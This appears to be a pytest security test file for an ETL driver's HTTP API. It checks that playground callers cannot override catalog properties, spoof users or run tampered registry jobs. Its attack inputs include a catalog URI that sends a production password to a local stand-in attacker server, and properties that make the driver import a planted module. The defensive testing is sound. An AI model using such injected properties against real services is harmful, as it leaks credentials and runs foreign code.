"""Somebody with a token for playgrounds and a plain HTTP client, who wants what the driver may do and they may not."""

from __future__ import annotations

import json
import sqlite3
import sys
import threading
from collections.abc import Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import attrs
import pytest

from coreetl_driver.server import DriverServer
from tests.coreetl_driver.conftest import ENVIRONMENT, PLAYGROUND, PRODUCTION, TOKEN, Project
from tests.coreetl_driver.test_http_api import call

SQL = "SELECT order_id, qty FROM raw.orders"
SECRET = "hunter2-hunter2-hunter2"
NEW = {"job_id": "evil", "environment": ENVIRONMENT}


@pytest.fixture
def heard() -> Iterator[tuple[str, list[str]]]:
    """The attacker's own server: its URL, and the paths that were asked of it."""
    paths: list[str] = []

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            paths.append(self.path)
            self.send_error(500)

        def log_message(self, format: str, *args: Any) -> None:
            """Nothing: the test's output is no place for it."""

    server = HTTPServer(("127.0.0.1", 0), Listening)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", paths
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.fixture
def served(project: Project) -> Iterator[tuple[DriverServer, Project]]:
    """A driver whose environment holds production's password, which its own settings refer to."""
    settings = project.with_properties({"token": "${PROD_PASSWORD}"}, {"PROD_PASSWORD": SECRET})
    server = DriverServer(settings)
    yield server, attrs.evolve(project, settings=settings)
    server.stop()


def attacks(project: Project, listener: str) -> dict[str, tuple[str, dict[str, str]]]:
    """What is put in the place of a catalog's properties, by what it is for."""
    catalogs = project.spec(SQL).catalogs
    return {
        "send the secret away": (PRODUCTION, {"type": "rest", "uri": f"{listener}/${{PROD_PASSWORD}}"}),
        "add to what is right": (PLAYGROUND, {**catalogs[PLAYGROUND], "header.x": "${PROD_PASSWORD}"}),
        "import a module": (PLAYGROUND, {"py-catalog-impl": "planted_module.Catalog"}),
        "import a file system": (PLAYGROUND, {**catalogs[PLAYGROUND], "py-io-impl": "planted_module.IO"}),
        "import a login": (PLAYGROUND, {**catalogs[PLAYGROUND], "auth": '{"impl": "planted_module.Auth"}'}),
        "production under my name": (PLAYGROUND, dict(catalogs[PRODUCTION])),
        "leave something out": (PRODUCTION, {k: v for k, v in catalogs[PRODUCTION].items() if k != "warehouse"}),
    }


def test_a_callers_own_properties_of_a_catalog_are_refused_and_nothing_is_resolved_imported_or_opened(
    served: tuple[DriverServer, Project], heard: tuple[str, list[str]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    server, project = served
    listener, asked = heard
    (tmp_path / "planted").mkdir()
    (tmp_path / "planted" / "planted_module.py").write_text("raise RuntimeError('imported')")
    monkeypatch.syspath_prepend(str(tmp_path / "planted"))
    before = project.production_files()
    good = project.spec(SQL)
    assert call(server, "POST", "/v1/jobs", {**NEW, "job_id": "good", "spec": good.to_json()})[0] == 200
    for what, (catalog, properties) in attacks(project, listener).items():
        spec = attrs.evolve(good, catalogs={**good.catalogs, catalog: properties}).to_json()
        for method, path in (("POST", "/v1/jobs"), ("PUT", "/v1/jobs/good")):
            status, document = call(server, method, path, {**NEW, "spec": spec})
            assert (what, status, document["error"]["code"]) == (what, 400, "coreetl.foreign_catalog")
            assert f"catalog {catalog!r}" in document["error"]["message"]
            for value in (SECRET, "PROD_PASSWORD", listener, "planted_module", str(project.settings.root)):
                assert value not in json.dumps(document)
    assert call(server, "GET", f"/v1/jobs/evil?environment={ENVIRONMENT}")[0] == 404
    assert call(server, "GET", f"/v1/jobs/good?environment={ENVIRONMENT}")[1]["version"] == 1
    assert "planted_module" not in sys.modules
    assert asked == []
    assert project.production_files() == before


def test_a_job_that_came_into_the_registry_by_another_way_is_refused_before_it_runs(
    served: tuple[DriverServer, Project], heard: tuple[str, list[str]]
) -> None:
    server, project = served
    listener, asked = heard
    call(server, "POST", "/v1/jobs", {**NEW, "spec": project.spec(SQL).to_json()})
    catalogs = {**project.spec(SQL).catalogs, PRODUCTION: {"type": "rest", "uri": f"{listener}/${{PROD_PASSWORD}}"}}
    spec = json.dumps(attrs.evolve(project.spec(SQL), catalogs=catalogs).to_json())
    with closing(sqlite3.connect(project.settings.state / "coreetl.db")) as connection, connection:
        connection.execute("UPDATE coreetl_job_versions SET spec = ?", (spec,))
    status, document = call(server, "POST", "/v1/jobs/evil/run", {"environment": ENVIRONMENT})
    assert (status, document["error"]["code"]) == (400, "coreetl.foreign_catalog")
    assert call(server, "GET", "/v1/executions?job_id=evil")[1] == {"executions": []}
    assert asked == []


def test_nobody_is_recorded_as_somebody_else(served: tuple[DriverServer, Project]) -> None:
    server, project = served
    call(server, "POST", "/v1/jobs", {**NEW, "spec": project.spec(SQL).to_json()})
    claim = {"environment": ENVIRONMENT, "user": "the-boss"}
    status, refused = call(server, "POST", "/v1/jobs/evil/run", claim, TOKEN)
    assert (status, "'user'" in str(refused)) == (400, True)
    _, execution = call(server, "POST", "/v1/jobs/evil/run", {"environment": ENVIRONMENT}, TOKEN)
    assert execution["user"] == "airflow"
